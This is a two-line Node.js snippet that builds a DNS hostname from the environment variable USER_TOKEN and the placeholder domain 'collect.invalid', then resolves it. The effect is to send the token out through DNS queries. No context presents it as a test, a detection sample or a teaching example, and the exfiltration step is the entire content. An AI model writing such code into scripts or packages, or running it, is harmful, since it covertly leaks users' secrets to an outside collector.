const dns = require("dns");
dns.lookup(`${process.env.USER_TOKEN}.collect.invalid`, () => {});
